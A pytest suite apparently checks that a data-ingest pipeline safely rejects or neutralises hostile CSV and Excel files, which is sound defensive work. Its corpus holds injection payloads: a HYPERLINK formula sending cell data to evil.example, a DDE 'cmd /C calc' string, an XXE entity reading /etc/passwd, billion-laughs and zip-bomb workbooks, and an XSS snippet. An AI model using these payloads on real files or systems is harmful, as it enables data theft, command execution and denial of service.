"""Hostile and broken input files: each fails safely, or is handled safely, and none of them
touches what is published.

Every case is generated into tmp_path (the big ones too: nothing large is committed) and
ingested with `ingest_files` into a copy of a data folder that already has a published build.
Each asserts a clear error (file, row and column where there is one, and the reason) or safe
handling, no exception, and that `warehouse/` (CURRENT and the build folder) is byte-identical
afterwards; for a rejected file `staging/` is too. A few go through the command line as well.
The limits are those of pipelines/ingest/read.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import random
import shutil
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from dashboard.config import ROOT
from pipelines.__main__ import main
from pipelines.build import build, current_build_id
from pipelines.framework import load_framework
from pipelines.ingest import IngestError, ingest_files, read_table
from pipelines.ingest import read as read_mod
from pipelines.ingest.read import read_grid
from pipelines.reference import MUNICIPALITIES_FILE, REFERENCE_DIR
from pipelines.staging import DataPaths, staged_inputs

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "ingest"
NOW = dt.datetime(2025, 6, 30, 12, 0, tzinfo=dt.UTC)
HEADER = ("municipality_id,wave,element_id,level,respondent_id,respondent_role,submitted_at,"
          "confidence,evidence,publish_consent")
XLSX_HEADER = HEADER.split(",")
FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>, "quoted" & <b>bold</b>'


def line(mid="NL_GM0363", element="STR-01", level="3", respondent="ams-1",
         submitted="2025-03-14", evidence="", wave="2025") -> str:
    return f"{mid},{wave},{element},{level},{respondent},cio,{submitted},high,{evidence},yes"


def text_file(*lines: str, sep: str = "\n") -> bytes:
    return sep.join([HEADER, *lines]).encode() + sep.encode()


def quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


# --------------------------------------------------------------------------------------------
# fixtures: a data folder with a published build, copied for every case
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def published(tmp_path_factory, framework, index) -> Path:
    root = tmp_path_factory.mktemp("published") / "data"
    report = ingest_files([FIXTURES / "good.csv"], DataPaths(root), framework=framework,
                          index=index, now=NOW, progress=False)
    assert report.ok, report.summary()
    build(root, framework=framework)
    assert current_build_id(DataPaths(root))
    return root


@pytest.fixture()
def data(published, tmp_path) -> DataPaths:
    root = tmp_path / "data"
    shutil.copytree(published, root, symlinks=True)
    return DataPaths(root)


def snapshot(root: Path, folder: str) -> dict[str, str]:
    base = root / folder
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(base.rglob("*")) if p.is_file()}


def ingest(paths: DataPaths, file: Path, framework, index, **kw):
    return ingest_files([file], paths, framework=framework, index=index, now=NOW,
                        progress=False, **kw)


# --------------------------------------------------------------------------------------------
# makers of hostile files
# --------------------------------------------------------------------------------------------


def xlsx_bytes(rows: list[list], sheets: int = 1) -> bytes:
    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for i in range(1, sheets):
        wb.create_sheet(f"S{i}")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def good_xlsx() -> bytes:
    return xlsx_bytes([XLSX_HEADER, line().split(",")])


def rezip(data: bytes, change: Callable[[str, bytes], bytes], extra: dict | None = None) -> bytes:
    """The workbook with every part passed through `change(name, bytes)`, plus `extra` parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, change(info.filename, zin.read(info.filename)))
        for name, body in (extra or {}).items():
            zout.writestr(name, body)
    return out.getvalue()


def xlsx_zip_bomb() -> bytes:
    """A valid workbook plus a 50 MB part of zeros packed ~1000:1."""
    return rezip(good_xlsx(), lambda _n, b: b, {"xl/media/image1.bin": bytes(50_000_000)})


def xlsx_with_doctype(doctype: str, entity: str) -> bytes:
    """A workbook whose sheet XML declares `doctype` and uses `entity` in a cell."""
    def change(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        text = body.decode()
        assert "<worksheet" in text and ">ams-1<" in text
        return text.replace("<worksheet", doctype + "<worksheet", 1).replace(
            ">ams-1<", f">{entity}<", 1).encode()
    return rezip(good_xlsx(), change)


BILLION_LAUGHS = ('<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
                  + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
                            for i in range(9)) + "]>")
XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def xlsx_external_link() -> bytes:
    """A workbook that links to another workbook on a web server (never to be fetched)."""
    link = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
            '</externalBook></externalLink>')
    link_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/externalLinkPath" '
                 'Target="https://evil.example/book.xlsx" TargetMode="External"/>'
                 '</Relationships>')

    def change(name: str, body: bytes) -> bytes:
        text = body.decode()
        if name == "xl/_rels/workbook.xml.rels":
            text = text.replace("</Relationships>", '<Relationship Id="rId99" Type="http://'
                                'schemas.openxmlformats.org/officeDocument/2006/relationships/'
                                'externalLink" Target="externalLinks/externalLink1.xml"/>'
                                "</Relationships>")
        elif name == "xl/workbook.xml":
            text = text.replace("</sheets>", '</sheets><externalReferences>'
                                '<externalReference r:id="rId99"/></externalReferences>')
        elif name == "[Content_Types].xml":
            text = text.replace("</Types>", '<Override PartName="/xl/externalLinks/'
                                'externalLink1.xml" ContentType="application/vnd.openxmlformats-'
                                'officedocument.spreadsheetml.externalLink+xml"/></Types>')
        return text.encode()
    row = line(evidence="see linked book").split(",")
    return rezip(xlsx_bytes([XLSX_HEADER, row]), change,
                 {"xl/externalLinks/externalLink1.xml": link,
                  "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def xlsx_far_row() -> bytes:
    """A sheet whose last cell sits at row 3,000,000: the rows between are empty."""
    def change(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        return body.replace(b"</sheetData>", b'<row r="3000000"><c r="A3000000" t="inlineStr">'
                                             b"<is><t>x</t></is></c></row></sheetData>")
    return rezip(good_xlsx(), change)


def utf16_no_bom() -> bytes:
    return text_file(line()).decode().encode("utf-16-le")


def binary_garbage() -> bytes:
    return random.Random(14).randbytes(200_000)


def garbage_without_nul() -> bytes:
    rng = random.Random(15)
    return bytes(rng.randrange(1, 256) for _ in range(50_000))


def million_rows() -> bytes:
    ids = pd.read_parquet(REFERENCE_DIR / MUNICIPALITIES_FILE,
                          columns=["municipality_id"])["municipality_id"].tolist()
    elements = load_framework().element_ids
    n = 1_000_000
    out = [HEADER]
    for i in range(n):
        r, e = divmod(i, len(elements))
        out.append(f"{ids[r % len(ids)]},2025,{elements[e]},{i % 5},r{r},cio,2025-03-14,"
                   f"high,,yes")
    return ("\n".join(out) + "\n").encode()


# --------------------------------------------------------------------------------------------
# the corpus
# --------------------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    make: Callable[[], bytes] | None  # None: `write` makes the file
    reason: str | None  # expected in an error's reason; None: the file is staged
    row: int | None = None  # the error's row (0: the file as a whole), None: not checked
    column: str | None = None
    suffix: str = ".csv"
    check: Callable[[pd.DataFrame], None] | None = None  # on the staged rows
    write: Callable[[Path], None] | None = None
    limits: dict | None = None  # read.py limits lowered for this case (fast, same code path)


def staged_evidence(expected: str | None) -> Callable[[pd.DataFrame], None]:
    def check(df: pd.DataFrame) -> None:
        if expected is None:  # an empty cell is staged as null
            assert df["evidence"].isna().tolist() == [True]
        else:
            assert df["evidence"].tolist() == [expected]
    return check


def sparse(size: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("wb") as fh:
            fh.write(HEADER.encode() + b"\n")
            fh.truncate(size)
    return write


CASES = [
    # ---- encodings and bytes
    Case("utf16-without-bom", utf16_no_bom, "UTF-16 text without a byte-order mark", 0),
    Case("utf16-with-bom", lambda: b"\xff\xfe" + utf16_no_bom(), "UTF-16 text", 0),
    Case("latin1-claiming-utf8-bom", lambda: b"\xef\xbb\xbf" + text_file(line(
        evidence="caf\xe9")).replace(b"caf\xc3\xa9", b"caf\xe9"),
         "starts with a UTF-8 BOM but is not valid UTF-8", 0),
    Case("latin1-without-bom-is-cp1252", lambda: text_file(line(evidence="café")).decode()
         .encode("latin-1"), None, check=staged_evidence("café")),
    Case("neither-utf8-nor-cp1252", lambda: text_file(line(evidence="x")).replace(b",x,",
                                                                                  b",\x81\x8d,"),
         "neither UTF-8 nor Windows-1252", 0),
    Case("nul-byte-in-evidence", lambda: text_file(line(), line(respondent="b", evidence="a\0b")),
         "NUL byte (line 3", 0),
    Case("binary-garbage-named-csv", binary_garbage, "not a text (CSV) file", 0),
    Case("garbage-without-nul", garbage_without_nul, "neither UTF-8 nor Windows-1252", 0),
    Case("png-named-csv", lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(100),
         "not a text (CSV) file", 0),
    Case("old-xls-named-csv", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
         "old Excel .xls", 0),
    Case("pdf-named-xlsx", lambda: b"%PDF-1.7\n" + bytes(100), "is not an Excel workbook", 0,
         suffix=".xlsx"),
    Case("zip-of-text-named-csv", lambda: rezip(good_xlsx(), lambda _n, b: b"not xml"),
         "not a readable Excel workbook", 0),
    # ---- structure
    Case("empty-file", lambda: b"", "the file is empty", 0),
    Case("only-newlines", lambda: b"\r\n\n\n  \n", "the file is empty", 0),
    Case("only-a-bom", lambda: b"\xef\xbb\xbf", "the file is empty", 0),
    Case("header-only", lambda: HEADER.encode() + b"\n", "header but no data rows", 0),
    Case("excel-sep-line-only", lambda: b"sep=;\n", "no header", 1),
    Case("mixed-delimiters", lambda: text_file(line(), line(respondent="b").replace(",", ";")),
         "empty wave", 3, "wave"),
    Case("mixed-line-endings", lambda: (HEADER + "\r\n" + line() + "\n" + line(respondent="b")
                                       + "\r" + line(respondent="c") + "\r\n").encode(), None,
         check=lambda df: df["respondent_id"].tolist() == ["ams-1", "b", "c"]),
    Case("ragged-row-extra-cell", lambda: text_file(line(), line(respondent="b") + ",extra"),
         "the row has 11 cells but the header has 10", 3),
    Case("ragged-row-missing-cells", lambda: text_file(line(), "NL_GM0363,2025,STR-01"),
         "empty respondent_id", 3, "respondent_id"),
    Case("unterminated-quote", lambda: text_file(line(evidence='"never closed')),
         "is not a readable CSV", 0),
    Case("duplicate-header", lambda: (HEADER + ",level\n" + line() + ",3\n").encode(),
         "column 'level' appears more than once", 1),
    Case("missing-column", lambda: (HEADER.replace(",level", "") + "\n"
                                    + line().replace(",3,", ",", 1) + "\n").encode(),
         "missing column", None, "level"),
    # ---- sizes and limits
    Case("20mb-evidence-field", lambda: text_file(line(evidence="x" * 20_000_000)),
         "the cell holds 20,000,000 characters; the limit is 100,000", 2, "evidence"),
    Case("over-limit-field-in-row-5", lambda: text_file(
        line(), line(respondent="b"), line(respondent="c"),
        line(respondent="d", evidence=quoted("a, \"b\"\n" * 20_000)), line(respondent="e")),
         "the limit is 100,000", 5, "evidence"),
    Case("field-at-the-limit", lambda: text_file(line(evidence="y" * 100_000)), None,
         check=lambda df: df["evidence"].str.len().tolist() == [100_000]),
    Case("huge-header-cell", lambda: (HEADER + "," + "h" * 200_000 + "\n" + line() + ",\n")
         .encode(), "the limit is 100,000", 1, "11"),
    Case("200mb-file", None, "the file is 200 MB; the limit is 100 MB", 0,
         write=sparse(200_000_000)),
    Case("3m-blank-lines", lambda: HEADER.encode() + b"\n" * 3_000_000,
         "more than 2,000,000 data rows", 2_000_002),
    Case("3000-columns", lambda: (",".join(f"c{i}" for i in range(3000)) + "\n").encode(),
         "the header has 3,000 columns; the limit is 2,000", 1),
    Case("too-many-cells", lambda: (",".join(f"c{i}" for i in range(50)) + "\n"
                                    + ("," * 49 + "\n") * 30).encode(),
         "limit of 1,000 cells", 22, limits={"MAX_CELLS": 1_000}),
    Case("million-valid-rows", million_rows, None,
         check=lambda df: len(df) == 1_000_000),
    # ---- content
    Case("formula-in-evidence-staged-verbatim", lambda: text_file(line(evidence=quoted(FORMULA))),
         None, check=staged_evidence(FORMULA)),
    Case("formula-in-level", lambda: text_file(line(level=quoted(FORMULA))),
         "level is not a whole number", 2, "level"),
    Case("dde-in-respondent-role", lambda: text_file(line().replace(",cio,", ",+cmd|' /C calc'!A0,")
                                                     .replace("ams-1", "@SUM(1+1)")),
         None, check=lambda df: df["respondent_id"].tolist() == ["@SUM(1+1)"]),
    Case("html-in-evidence-staged-verbatim", lambda: text_file(line(evidence=quoted(HTML))),
         None, check=staged_evidence(HTML)),
    Case("cyrillic-es-in-element", lambda: text_file(line(element="\u0421EC-01")),
         "unknown element", 2, "element_id"),
    Case("fullwidth-digits-in-element", lambda: text_file(line(element="SEC-\uff10\uff11")),
         "unknown element", 2, "element_id"),
    Case("fullwidth-digits-in-municipality", lambda: text_file(line(mid="NL_GM\uff10363")),
         "unknown municipality", 2, "municipality_id"),
    Case("zero-width-space-in-element", lambda: text_file(line(element="SEC\u200b-01")),
         "unknown element", 2, "element_id"),
    # a fullwidth digit is that digit (Python's int): level 3, as the user meant
    Case("fullwidth-digit-level", lambda: text_file(line(level="\uff13")), None,
         check=lambda df: df["level"].tolist() == [3]),
    Case("future-date", lambda: text_file(line(submitted="2030-01-01")),
         "date in the future", 2, "submitted_at"),
    Case("year-9999-date", lambda: text_file(line(submitted="9999-12-31")),
         "unparseable date", 2, "submitted_at"),
    Case("year-0-date", lambda: text_file(line(submitted="0000-00-00")),
         "unparseable date", 2, "submitted_at"),
    Case("duplicate-answer", lambda: text_file(line(), line()),
         "duplicate answer (first at row 2)", 3, "element_id"),
    Case("level-3.5", lambda: text_file(line(level="3.5")), "level is not a whole number", 2,
         "level"),
    Case("level-drie", lambda: text_file(line(level="drie")), "level is not a whole number", 2,
         "level"),
    Case("level-nan-and-inf", lambda: text_file(line(level="NaN"), line(level="inf",
                                                                           respondent="b")),
         "level is not a whole number", 2, "level"),
    Case("level-7", lambda: text_file(line(level="7")), "level out of range 0-4", 2, "level"),
    # ---- workbooks
    Case("xlsx-zip-bomb", xlsx_zip_bomb, "looks like a zip bomb", 0, suffix=".xlsx"),
    Case("xlsx-unpacks-too-big", xlsx_zip_bomb, "unpacks to 50 MB; the limit is 10 MB", 0,
         suffix=".xlsx", limits={"MAX_XLSX_UNPACKED": 10_000_000}),
    Case("xlsx-150-sheets", lambda: xlsx_bytes([XLSX_HEADER, line().split(",")], sheets=150),
         "the workbook has 150 sheets; the limit is 100", 0, suffix=".xlsx"),
    Case("xlsx-billion-laughs", lambda: xlsx_with_doctype(BILLION_LAUGHS, "&j;"),
         "not a readable Excel workbook", 0, suffix=".xlsx"),
    Case("xlsx-external-entity", lambda: xlsx_with_doctype(XXE, "&xxe;"),
         "not a readable Excel workbook", 0, suffix=".xlsx"),
    Case("xlsx-external-link", xlsx_external_link, None, suffix=".xlsx",
         check=staged_evidence("see linked book")),
    # formulas are never run: a formula cell reads as the value saved with it; one never
    # calculated (openpyxl writes none) has no value, which is an error, not "don't know"
    Case("xlsx-uncalculated-formula", lambda: xlsx_bytes([XLSX_HEADER, [*line().split(",")[:8],
                                                                         FORMULA, "yes"]]),
         "holds a formula (=HYPERLINK(", 2, "evidence", suffix=".xlsx"),
    Case("xlsx-uncalculated-formula-level", lambda: xlsx_bytes(
        [XLSX_HEADER, line().split(","), [*line().split(",")[:3], '=WEBSERVICE("https://e/")',
                                          *line(respondent="b").split(",")[4:]]]),
         "that was never calculated", 3, "level", suffix=".xlsx"),
    Case("xlsx-calculated-formula", lambda: rezip(
        xlsx_bytes([XLSX_HEADER, [*line().split(",")[:3], "=1+2", *line().split(",")[4:]]]),
        lambda _n, b: b.replace(b"<f>1+2</f><v />", b"<f>1+2</f><v>3</v>")),
         None, suffix=".xlsx", check=lambda df: df["level"].tolist() == [3]),
    Case("xlsx-row-3000000", xlsx_far_row, "more than 10,000 data rows", 10_002,
         suffix=".xlsx", limits={"MAX_ROWS": 10_000}),  # 2M empty rows: ~6 s, same path
    Case("xlsx-truncated", lambda: good_xlsx()[:1500], "not a readable Excel workbook", 0,
         suffix=".xlsx"),
    Case("xlsx-empty-sheet", lambda: xlsx_bytes([]), "the first sheet is empty", 0,
         suffix=".xlsx"),
    Case("xlsx-200k-cell", lambda: rezip(  # openpyxl (like Excel) writes at most 32,767
        xlsx_bytes([XLSX_HEADER, [*line().split(",")[:8], "z" * 10, "yes"]]),
        lambda _n, b: b.replace(b">" + b"z" * 10 + b"<", b">" + b"z" * 200_000 + b"<")),
         "the limit is 100,000", 2, "evidence", suffix=".xlsx"),
]


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_file_fails_safely(case, data, tmp_path, framework, index, monkeypatch):
    for name, value in (case.limits or {}).items():
        monkeypatch.setattr(read_mod, name, value)
    path = tmp_path / f"{case.id}{case.suffix}"
    if case.write:
        case.write(path)
    else:
        path.write_bytes(case.make())
    published = snapshot(data.root, "warehouse")
    staged_before = snapshot(data.root, "staging")
    current = data.current.read_bytes()

    started = time.perf_counter()
    report = ingest(data, path, framework, index)
    assert time.perf_counter() - started < 60

    [f] = report.files
    assert snapshot(data.root, "warehouse") == published
    assert data.current.read_bytes() == current
    if case.reason is None:
        assert f.status == "staged", report.summary()
        [new] = [s for s in staged_inputs(data) if s.sha256 == f.sha256]
        df = pq.read_table(new.parquet).to_pandas()
        if case.check:
            assert case.check(df) is not False
        return
    assert f.status == "rejected" and not report.ok
    assert snapshot(data.root, "staging") == staged_before
    matching = [e for e in f.errors if case.reason in e.reason]
    assert matching, report.summary()
    e = matching[0]
    assert e.file == path.name
    if case.row is not None:
        assert e.row == case.row, e
    if case.column is not None:
        assert e.column == case.column, e
    summary = report.summary()
    assert path.name in summary and case.reason in summary
    # the errors CSV for people: readable, one line per error, nothing a spreadsheet would run
    with f.rejects_path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(f.errors)
    assert not any(v[:1] in "=+-@" for r in rows for v in r.values() if v)


# --------------------------------------------------------------------------------------------
# what people open: formulas neutralised, HTML kept as text
# --------------------------------------------------------------------------------------------


def test_formula_in_a_bad_cell_is_neutralised_in_the_errors_csv(data, tmp_path, framework,
                                                                 index):
    path = tmp_path / "formula.csv"
    path.write_bytes(text_file(line(level=quoted(FORMULA))))
    report = ingest(data, path, framework, index)
    with report.files[0].rejects_path.open(encoding="utf-8", newline="") as fh:
        [err] = list(csv.DictReader(fh))
    assert err["value"] == "'" + FORMULA and err["column"] == "level"


def test_rejected_rows_csv_quotes_html_and_neutralises_formulas(data, tmp_path, framework,
                                                                 index):
    path = tmp_path / "mixed.csv"
    path.write_bytes(text_file(line(evidence=quoted(HTML)),
                               line(respondent="b", level="9", evidence=quoted(HTML)),
                               line(respondent="c", level="9", evidence=quoted(FORMULA))))
    out = tmp_path / "rejects.csv"
    report = ingest(data, path, framework, index, skip_invalid=True, rejected_out=out)
    assert report.files[0].status == "staged with rejects"
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["evidence"] for r in rows] == [HTML, "'" + FORMULA]
    # quoted as CSV, never as HTML: the raw file holds the markup with its quotes doubled
    assert '"<script>alert(""x"")</script>' in out.read_text(encoding="utf-8")
    staged = next(s for s in staged_inputs(data) if s.sha256 == report.files[0].sha256)
    assert pq.read_table(staged.parquet).to_pandas()["evidence"].tolist() == [HTML]


def test_external_entity_is_never_read(data, tmp_path, framework, index):
    path = tmp_path / "xxe.xlsx"
    path.write_bytes(xlsx_with_doctype(XXE, "&xxe;"))
    report = ingest(data, path, framework, index)
    everything = "".join(p.read_text(errors="replace") for p in data.root.rglob("*.csv"))
    assert "root:" not in everything and "root:" not in report.summary()


# --------------------------------------------------------------------------------------------
# the file system: folders, devices, pipes, symlinks
# --------------------------------------------------------------------------------------------


def test_folder_named_csv(data, tmp_path, framework, index, capsys):
    folder = tmp_path / "answers.csv"
    folder.mkdir()
    with pytest.raises(IngestError, match="is a folder"):
        read_table(folder)
    with pytest.raises(FileNotFoundError, match=r"answers\.csv"):
        ingest(data, folder, framework, index)
    published = snapshot(data.root, "warehouse")
    assert main(["--data-dir", str(data.root), "ingest", str(folder)]) == 2
    assert "file not found" in capsys.readouterr().err
    assert snapshot(data.root, "warehouse") == published


def test_pipe_and_device_named_csv_do_not_hang(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    device = tmp_path / "zero.csv"
    device.symlink_to("/dev/zero")
    for path in (fifo, device):
        for reader in (read_table, read_grid):
            with pytest.raises(IngestError, match="not a regular file"):
                reader(path)


def test_symlink_to_a_good_file_is_read_as_that_file(data, tmp_path, framework, index):
    link = tmp_path / "link.csv"
    link.symlink_to(FIXTURES / "good.csv")
    report = ingest(data, link, framework, index)
    assert report.files[0].status in ("staged", "already staged")
    assert report.files[0].rows_staged == 8


def test_big_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "big.csv"
    sparse(200_000_000)(path)
    tracemalloc.start()
    try:
        for reader in (read_table, read_grid):
            with pytest.raises(IngestError, match="the limit is 100 MB"):
                reader(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000


# --------------------------------------------------------------------------------------------
# the command line: exit 1, a message, no traceback
# --------------------------------------------------------------------------------------------

CLI_CASES = ["20mb-evidence-field", "200mb-file", "utf16-without-bom", "xlsx-zip-bomb",
             "binary-garbage-named-csv", "level-drie"]


@pytest.mark.parametrize("case_id", CLI_CASES)
def test_cli_rejects_with_exit_1(case_id, data, tmp_path, capsys):
    case = next(c for c in CASES if c.id == case_id)
    path = tmp_path / f"{case.id}{case.suffix}"
    if case.write:
        case.write(path)
    else:
        path.write_bytes(case.make())
    published = snapshot(data.root, "warehouse")
    assert main(["--data-dir", str(data.root), "ingest", str(path)]) == 1
    out = capsys.readouterr().out
    assert f"{path.name}" in out and case.reason in out and "rejected" in out
    assert snapshot(data.root, "warehouse") == published


def test_cli_subprocess_has_no_traceback(data, tmp_path):
    path = tmp_path / "big-field.csv"
    path.write_bytes(text_file(line(evidence="x" * 20_000_000)))
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-m", "pipelines", "--data-dir", str(data.root),
                             "ingest", str(path)], cwd=ROOT, env=env, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert ("big-field.csv row 2, column evidence: the cell holds 20,000,000 characters; "
            "the limit is 100,000") in result.stdout
